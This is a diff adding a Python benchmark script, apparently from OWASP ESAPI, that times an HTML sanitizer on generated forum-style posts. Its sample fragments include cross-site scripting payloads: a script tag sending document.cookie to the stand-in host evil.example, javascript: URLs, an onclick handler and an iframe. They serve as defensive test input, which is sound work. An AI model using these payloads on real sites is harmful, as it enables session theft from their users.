@@ -0,0 +1,86 @@
+#!/usr/bin/python
+# -*- coding: utf-8 -*-
+
+"""
+@license: OWASP Enterprise Security API (ESAPI)
+
+    This file is part of the Open Web Application Security Project (OWASP)
+    Enterprise Security API (ESAPI) project. For details, please see
+    U{http://www.owasp.org/index.php/ESAPI<http://www.owasp.org/index.php/ESAPI>}.
+
+    The ESAPI is published by OWASP under the BSD license. You should read and
+    accept the LICENSE before you use, modify, and/or redistribute this software.
+
+@summary: Benchmarks HTMLValidationRule on large user-generated content.
+
+    Usage, from the root of the source tree:
+        python devDocs/benchmarks/html_sanitizer.py [megabytes]
+
+    The content is a mix of forum-style posts: formatted text, links, images,
+    tables, entities, and a share of hostile markup (scripts, event handlers,
+    javascript: URLs, unclosed and misnested tags).
+@copyright: Copyright (c) 2009 - The OWASP Foundation
+@author: Craig Younkins (craig.younkins@owasp.org)
+"""
+
+import random
+import sys
+import time
+
+import esapi.test.conf
+from esapi.core import ESAPI
+from esapi.reference.validation.html_validation_rule import HTMLValidationRule
+
+FRAGMENTS = [
+    "Just tried the new release and <b>it works</b> great. ",
+    "See <a href=\"http://www.example.com/page?id=42&amp;lang=en\" title=\"docs\">the docs</a> for details. ",
+    "<p>Paragraph with <em>emphasis</em>, <strong>strong</strong> and <code>x &lt; y</code>.</p>",
+    "<ul><li>one</li><li>two<li>three</ul>",
+    "<blockquote cite=\"http://example.org/\">Quoted text &mdash; with entities &copy; 2009</blockquote>",
+    "<img src=\"/images/smile.gif\" alt=\":)\" width=\"16\" height=\"16\">",
+    "<table><tr><th>a</th><th>b</th></tr><tr><td>1</td><td colspan=2>2</td></tr></table>",
+    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
+    "<a href=\"javascript:alert(1)\" onclick=\"steal()\">click me</a>",
+    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
+    "<b><i>misnested</b></i> and <span>unclosed ",
+    "<iframe src=\"http://evil.example/\">fallback</iframe>",
+    "<!-- a comment --> 1 < 2 && 3 > 2 ",
+    "Plain text line with no markup at all, which is most of a typical post.\n",
+    ]
+
+def make_content(size):
+    random.seed(1)
+    parts = []
+    length = 0
+    while length < size:
+        fragment = random.choice(FRAGMENTS)
+        parts.append(fragment)
+        length += len(fragment)
+    return ''.join(parts)
+
+def run(label, rule, content, repeat):
+    best = None
+    for i in range(repeat):
+        start = time.time()
+        output = rule.get_valid("benchmark", content)
+        elapsed = time.time() - start
+        if best is None or elapsed < best:
+            best = elapsed
+    megabytes = len(content) / 1048576.0
+    print "%-28s %8.1f KB in %7.3fs  %6.2f MB/s  output %.0f%% of input" % (
+        label, len(content) / 1024.0, best, megabytes / best,
+        100.0 * len(output) / len(content))
+
+def main():
+    megabytes = 4
+    if len(sys.argv) > 1:
+        megabytes = float(sys.argv[1])
+
+    rule = HTMLValidationRule("benchmark", ESAPI.encoder())
+    for size, repeat in [(2 * 1024, 200), (64 * 1024, 20), (int(megabytes * 1048576), 3)]:
+        content = make_content(size)
+        rule.set_maximum_length(len(content) * 2)
+        run("post of %s bytes" % size, rule, content, repeat)
+
+if __name__ == "__main__":
+    main()